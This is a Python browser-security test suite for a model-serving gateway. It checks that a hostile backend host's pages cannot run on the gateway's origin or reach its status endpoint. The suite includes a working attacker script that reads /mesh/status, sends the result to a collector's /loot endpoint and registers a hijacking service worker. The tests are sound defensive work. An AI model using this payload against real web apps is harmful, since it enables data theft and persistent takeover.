"""A host that answers everything with a page, behind the gateway, and a real Chromium that is led to it in every way.

The host's script must not run on the gateway's origin, with or without a key: there it could read /mesh/status, chat,
delete models, and own /ui from then on through a service worker. What it got is sent to a collector of the test's own.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from dataclasses import dataclass
from html import escape
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
import pytest_asyncio

from gpumesh import config
from gpumesh.gateway.app import Gateway
from gpumesh.gateway.model_requests import MODEL_ROUTES
from gpumesh.lab import profile
from gpumesh.lab.lab import Lab
from gpumesh.mesh.mesh import Mesh
from gpumesh.topology import GatewaySpec
from tests.gateway.fleet import MODEL, RunningGateway, node, serve_nodes
from tests.http_clients import loopback_client
from tests.mesh.servers import Exchange, ScriptedServer, serve, whole_response
from tests.prerequisites import needs

pytestmark = [
    pytest.mark.real,
    pytest.mark.slow,
    needs("chromium"),
    pytest.mark.timeout(180),
    pytest.mark.asyncio(loop_scope="module"),
]

PATIENCE_MS = 20_000.0
SILENCE_MS = 5_000
"""A worker that tells nothing for so long did not run. In one run of many, Chromium told nothing of a worker that it
had refused, neither a message nor an error."""
GETS = (f"/v1/models/{MODEL}", "/api/status")
POSTS = (*MODEL_ROUTES, "/api/me", "/api/signout", "/api/pull", "/api/push", "/api/create", "/api/copy")
KINDS = ("text/html", "image/svg+xml", "text/javascript", "text/plain;text/html", "")
SEEN = "gpumesh.status/1"  # is in what /mesh/status says


def script(collector: str) -> str:
    """What the host wants to run: as a page, a classic script, a worker and a service worker."""
    return (
        f"const tell = (what) => fetch('{collector}/loot?' + encodeURIComponent(what), {{mode: 'no-cors'}});"
        "self.owned = true;"
        "tell('ran on ' + self.origin);"
        "fetch('/mesh/status').then((a) => a.text()).then((text) => tell(text.slice(0, 300)));"
        "if (self.document) document.title = 'owned';"
        "if (self.navigator && navigator.serviceWorker && self.document)"
        " navigator.serviceWorker.register(location.pathname, {scope: '/'}).then(() => tell('registered'));"
        "self.addEventListener('fetch', (event) => event.respondWith(new Response('owned')));"
    )


@dataclass
class Attack:
    """``page`` is a browser's tab at the attacker's site; ``loot`` what the host's script could tell."""

    fleet: RunningGateway
    browser: Any
    context: Any
    page: Any
    site: ScriptedServer
    loot: list[str]
    kind: list[str]
    asked: list[str]
    has_key: bool

    @property
    def gateway(self) -> str:
        return self.fleet.gateway.url

    async def reset(self) -> None:
        """As at the beginning, for the next test: the host sends pages, has not been asked, and got nothing."""
        self.kind[0] = "text/html"
        self.loot.clear()
        self.asked.clear()
        await self.context.clear_cookies()
        for page in self.context.pages:
            if page is not self.page:
                await page.close()
        await self.page.goto(self.site.url)

    def clean(self) -> None:
        assert [each for each in self.loot if self.gateway in each or SEEN in each or each == "registered"] == []


@asynccontextmanager
async def attacked(browser: Any, **gateway: Any) -> AsyncIterator[Attack]:
    loot: list[str] = []
    asked: list[str] = []
    kind = ["text/html"]

    async def site(exchange: Exchange) -> None:
        """The attacker's: a blank page, and what the host's script calls."""
        target = exchange.head.split(b" ", 2)[1].decode()
        if target.startswith("/loot?"):
            loot.append(unquote(target.removeprefix("/loot?")))
        await exchange.send(whole_response(b"<!doctype html><title>evil</title>", kind="text/html"))

    async def host(exchange: Exchange) -> None:
        known: dict[bytes, Any] = {
            b"/api/version": {"version": "0.12.6"},
            b"/api/tags": {"models": [{"name": MODEL}]},
            b"/api/ps": {"models": []},
        }
        path = exchange.head.split(b" ", 2)[1]
        if path in known:
            await exchange.send(whole_response(json.dumps(known[path]).encode()))
            return
        asked.append(path.decode())
        code = script(collector.url)
        if kind[0] == "text/javascript":
            body = code
        elif kind[0] == "image/svg+xml":
            body = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{escape(code, quote=False)}</script></svg>'
        else:
            body = f"<!doctype html><script>{code}</script>"
        headers = b"Service-Worker-Allowed: /\r\nAccess-Control-Allow-Origin: *\r\nSet-Cookie: owned=1\r\n"
        answer = whole_response(body.encode(), kind=kind[0]).replace(b"\r\n", b"\r\n" + headers, 1)
        await exchange.send(answer if kind[0] else answer.replace(b"Content-Type: \r\n", b""))

    async with AsyncExitStack() as stack:
        collector = await stack.enter_async_context(serve(site))
        server = await stack.enter_async_context(serve(host))
        fleet = await stack.enter_async_context(
            serve_nodes((node("evil", server.url),), spec=GatewaySpec(**gateway), drain_s=1.0)
        )
        context = await browser.new_context()
        stack.push_async_callback(context.close)
        page = await context.new_page()
        page.set_default_timeout(PATIENCE_MS)
        await page.goto(f"http://127.0.0.1:{collector.port}/")
        yield Attack(fleet, browser, context, page, collector, loot, kind, asked, has_key=bool(gateway))


@pytest_asyncio.fixture(params=["without a key", "with a key"], scope="module", loop_scope="module")
async def lasting_attack(request: pytest.FixtureRequest, browser: Any) -> AsyncIterator[Attack]:
    """One for all tests of the module, because a browser's new context and page take half a second of CPU."""
    with pytest.MonkeyPatch.context() as environment:
        environment.setenv("HOSTILE_TEST_KEY", "sesame")
        more = {"api_key_env": "HOSTILE_TEST_KEY"} if request.param == "with a key" else {}
        async with attacked(browser, **more) as made:
            yield made


@pytest_asyncio.fixture(loop_scope="module")
async def attack(lasting_attack: Attack) -> AsyncIterator[Attack]:
    await lasting_attack.reset()
    yield lasting_attack
    lasting_attack.clean()


async def owned(where: Any) -> bool:
    return bool(await where.evaluate("self.owned === true || document.title === 'owned'"))


async def test_opened_by_hand_or_by_a_link(attack: Attack) -> None:
    opened = await attack.context.new_page()
    for path in GETS:
        answer = await opened.goto(attack.gateway + path)
        assert answer.status == 403
        assert "/ui" in await opened.content(), "where a person finds a page"
        assert not await owned(opened)
        await attack.page.evaluate("url => { location = url }", attack.gateway + path)
        await attack.page.wait_for_url(attack.gateway + path)
        assert not await owned(attack.page)
        await attack.page.goto(attack.site.url)
    assert attack.asked == [], "the host was not even asked, so what it would say makes no difference"
    assert await attack.context.cookies() == []


async def test_framed_and_embedded(attack: Attack) -> None:
    for path in GETS:
        for tag, attribute in (("iframe", "src"), ("embed", "src"), ("object", "data")):
            made = await attack.page.evaluate_handle(
                """([tag, attribute, url]) => new Promise((done) => {
                    const made = document.createElement(tag);
                    made.onload = made.onerror = () => done(made);
                    made.setAttribute(attribute, url);
                    document.body.append(made);
                })""",
                [tag, attribute, attack.gateway + path],
            )
            if tag == "iframe":
                frame = await made.as_element().content_frame()
                assert not await owned(frame)
    assert attack.asked == [], "the host was not even asked"


async def test_by_a_browser_that_does_not_say_what_it_asks_for(attack: Attack) -> None:
    """An old one, or one that asks another machine over plain HTTP. What a host says is no page all the same."""
    port = attack.fleet.port

    async def forgetful(exchange: Exchange) -> None:
        first, *lines = exchange.head.removesuffix(b"\r\n\r\n").split(b"\r\n")
        left_out = (b"sec-fetch-", b"connection:", b"service-worker")
        kept = [line for line in lines if not line.lower().startswith(left_out)]
        more = [b"Connection: close", b"Authorization: Bearer sesame"]
        reader, out = await asyncio.open_connection("127.0.0.1", port)
        try:
            out.write(b"\r\n".join([first, *kept, *more]) + b"\r\n\r\n" + exchange.body)
            await exchange.send(await reader.read())
        finally:
            out.transport.abort()
        exchange.close()

    async with serve(forgetful) as relay:
        page = await attack.context.new_page()
        for kind in KINDS:
            attack.kind[0] = kind
            for path in GETS:
                answer = await page.goto(relay.url + path)
                assert answer is not None
                assert answer.status == 502
                assert not await owned(page)
        registered = await attack.context.new_page()
        await registered.goto(relay.url + "/ui")
        assert await registered.evaluate("navigator.serviceWorker.controller") is None
    assert len(attack.asked) >= len(KINDS) * len(GETS), "the host said all of it"
    assert attack.loot == []
    assert await attack.context.cookies() == []


async def test_sent_there_by_a_form(attack: Attack) -> None:
    """A form of a foreign page, and of a page of this machine, which may use the gateway without a key. Where it needs
    one, it looks for it before it looks at the path."""
    for path in POSTS[:: len(POSTS) // 2] if attack.has_key else POSTS:
        await attack.page.evaluate(
            """(url) => {
                const form = document.createElement("form");
                form.method = "post"; form.enctype = "text/plain"; form.action = url;
                const field = document.createElement("input");
                field.name = '{"model":"MODEL","x":"'.replace("MODEL", "qwen2.5:7b"); field.value = '"}';
                form.append(field); document.body.append(form); form.submit();
            }""",
            attack.gateway + path,
        )
        await attack.page.wait_for_url(attack.gateway + path)
        assert not await owned(attack.page)
        await attack.page.goto(attack.site.url)
    assert attack.asked == []


async def test_as_a_script_a_style_or_a_picture(attack: Attack) -> None:
    for kind in ("text/javascript", "text/plain"):
        attack.kind[0] = kind
        for path in (*GETS, "/mesh/status", "/metrics"):
            for tag in ("script", "img", "link", "audio", "video"):
                ended = await attack.page.evaluate(
                    """([tag, url]) => new Promise((done) => {
                        const made = document.createElement(tag);
                        made.onload = made.onloadeddata = () => done("loaded");
                        made.onerror = () => done("failed");
                        if (tag === "link") { made.rel = "stylesheet"; made.href = url; } else made.src = url;
                        document.head.append(made);
                    })""",
                    [tag, attack.gateway + path],
                )
                assert ended == "failed", (tag, path)
    assert not await owned(attack.page)
    assert attack.asked == []


async def test_as_a_worker_of_the_gateways_own_origin(attack: Attack) -> None:
    """As if some script ran there already and the page's policy were not: the second wall holds alone."""
    context = await attack.browser.new_context(bypass_csp=True)
    page = await context.new_page()
    await page.goto(attack.gateway + "/ui")
    for kind in ("text/javascript", "text/plain"):
        attack.kind[0] = kind
        for path in (*GETS, "/ui"):
            registered = await page.evaluate(
                """([path, silenceMs]) => Promise.race([
                    navigator.serviceWorker.register(path, {scope: '/'}).then(() => 'yes', (no) => String(no)),
                    new Promise((done) => setTimeout(done, silenceMs, 'silent')),
                ])""",
                [path, SILENCE_MS],
            )
            assert registered != "yes"
            for worker in ("Worker", "SharedWorker"):
                ended = await page.evaluate(
                    """([kind, path, silenceMs]) => new Promise((done) => {
                        const made = new self[kind](path);
                        made.onerror = (event) => { event.preventDefault?.(); done("failed"); };
                        (made.port || made).onmessage = () => done("ran");
                        setTimeout(done, silenceMs, "silent");
                    })""",
                    [worker, path, SILENCE_MS],
                )
                assert ended in ("failed", "silent")
    assert await page.evaluate("navigator.serviceWorker.getRegistrations().then((all) => all.length)") == 0
    assert attack.asked == []
    await context.close()


async def test_the_host_is_not_asked_by_a_foreign_page_without_a_name(attack: Attack) -> None:
    for path in (*GETS, "/mesh/status"):
        told = await attack.page.evaluate(
            """(url) => fetch(url, {mode: "no-cors"}).then((a) => a.type, () => "failed")""",
            attack.gateway.replace("127.0.0.1", "localhost") + path,
        )
        assert told == "failed", "the answer is for nobody else (Cross-Origin-Resource-Policy)"
    assert attack.asked == []


async def test_pages_of_this_machine_may_ask_and_see_no_page_of_the_host(browser: Any) -> None:
    async with attacked(browser) as attack:
        ask = """([url, body]) => fetch(url, {method: "POST", body: JSON.stringify(body)})
            .then(async (a) => [a.status, a.headers.get("Content-Type"), await a.text()])"""
        body = {"model": MODEL, "prompt": "x", "stream": False}
        status, kind, text = await attack.page.evaluate(ask, [attack.gateway + "/api/generate", body])
        assert (status, kind) == (502, "application/json")
        assert "no answer of an inference server" in text
        seen = await attack.page.evaluate("url => fetch(url).then((a) => a.text())", attack.gateway + "/mesh/status")
        assert SEEN in seen


async def test_a_page_behind_a_nodes_port_may_not_ask_the_gateway(browser: Any) -> None:
    """The host's own page, opened on the port that leads to it, whose address is this machine's."""
    async with attacked(browser) as attack:
        backend = attack.fleet.mesh.topology.nodes[0].backend.targets[0].url
        page = await attack.context.new_page()
        await page.goto(backend.rstrip("/") + "/")
        assert await owned(page), "there it may run: it is its own origin"
        told = await page.evaluate(
            "url => fetch(url).then((a) => a.text(), () => 'failed')", attack.gateway + "/mesh/status"
        )
        assert told == "failed"
        attack.clean()


async def test_the_page_for_people_works_beside_it(attack: Attack) -> None:
    page = await attack.context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.on("console", lambda message: errors.append(message.text) if "Content Security" in message.text else None)
    await page.goto(attack.gateway + "/ui")
    await page.locator("#live.good").or_(page.locator("#ask:not([hidden])")).wait_for()
    assert errors == []


async def test_the_ends_of_tunnels_are_such_ports(tmp_path: Path) -> None:
    async with Lab((profile.make_instant_host("one"),), tmp_path) as lab:
        file = lab.write_config(tmp_path / "mesh.yaml")
        async with Mesh(config.load(file)) as mesh, Gateway(mesh, port=0) as gateway:
            await mesh.wait_first_report(20.0)
            port = mesh.snapshot().node("one").tunnel.local_port
            assert port is not None
            async with loopback_client(base_url=gateway.url) as client:
                for url, status in ((f"http://127.0.0.1:{port}", 403), (gateway.url, 200)):
                    assert (await client.get("/mesh/status", headers={"Origin": url})).status_code == status
